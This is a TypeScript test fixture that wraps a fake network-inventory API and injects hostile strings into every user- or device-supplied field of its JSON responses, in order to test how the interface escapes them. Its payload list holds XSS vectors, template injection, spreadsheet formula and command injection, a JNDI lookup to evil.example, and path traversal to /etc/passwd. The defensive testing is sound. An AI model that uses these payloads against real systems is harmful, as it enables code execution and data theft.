import type { Fake } from './fake.ts'

/** Names that something on a network may choose for itself. Each that runs sets window.ran. */
export const names = [
  '<script>window.ran=1</script>',
  '"><img src=x onerror=window.ran=1 data-evil>',
  "'><svg data-evil onload=window.ran=1>",
  '</td></tr></table><iframe data-evil srcdoc="<script>parent.ran=1</script>"></iframe>',
  'javascript:window.ran=1//',
  '<a data-evil href="javascript:window.ran=1">click</a>',
  `{{constructor.constructor("window.ran=1")()}}${'$'}{window.ran=1}`,
  '<style data-evil>*{display:none}</style>',
  '<!--<base data-evil href="//evil.example/">',
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '-2+3',
  '\u202egnp.exe',
  '\u2066\u2067rtl\u2069\u200f',
  'a\u0000b\u0007\u001b[31mred',
  'two\r\nlines\tand a tab',
  '\u200b\u200d\ufeff',
  'Z\u0337\u0328\u0345\u0322\u0317'.repeat(40),
  'W'.repeat(255),
  '\ufdfd'.repeat(60),
  '😀'.repeat(120),
  'very-long-name-that-breaks-nowhere_'.repeat(7),
  `%s%n%x${'$'}{jndi:ldap://evil.example/a}`,
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  '?q=1&sort=evil#hash',
]

/** The keys of the API's answers whose text is of the network, or of people. */
const theirs = new Set(
  (
    'hostname vendor model os firmware hardware serial nic_vendor name server_name title detail value text zone sensor version product ' +
    'what operation object outcome who from agent comment capture interface field protocol client server by peer username provider site commit go ' +
    'description action label rule reason address domain owner'
  ).split(' '),
)
const lists = new Set(['protocols', 'hostnames', 'sites', 'techniques', 'tags', 'roles'])
const counted = new Set([
  'vendor',
  'os',
  'protocol',
  'rule',
  'protocols',
  'by_vendor',
  'by_os',
  'by_type',
  'type',
  'zone',
  'site',
])

/** Puts a hostile name wherever an answer has a text that others chose. */
function poison(x: unknown, key: string, above: string, next: () => string): unknown {
  if (typeof x === 'string')
    return theirs.has(key) || lists.has(above) || (key === 'key' && counted.has(above)) ? next() : x
  if (Array.isArray(x)) return x.map(v => poison(v, key === 'items' ? '' : key, lists.has(key) ? key : above, next))
  if (typeof x !== 'object' || x === null) return x
  return Object.fromEntries(
    Object.entries(x).map(([k, v]) => [
      key === 'operations' || key === 'counters' ? next() : k,
      poison(v, k, typeof v === 'string' ? (key === 'key' ? above : key) : k, next),
    ]),
  )
}

/** The double, with hostile names in everything that it answers: the same ones for the same question. */
export function hostile(fake: Fake, seed = 0): Fake {
  return {
    ...fake,
    answer: async request => {
      const answer = await fake.answer(request)
      if (!answer.headers.get('Content-Type')?.startsWith('application/json')) return answer
      let n = seed
      for (const c of new URL(request.url).pathname) n += c.charCodeAt(0)
      const next = () => names[n++ % names.length] ?? ''
      return new Response(JSON.stringify(poison(await answer.json(), '', '', next)), {
        status: answer.status,
        headers: answer.headers,
      })
    },
  }
}
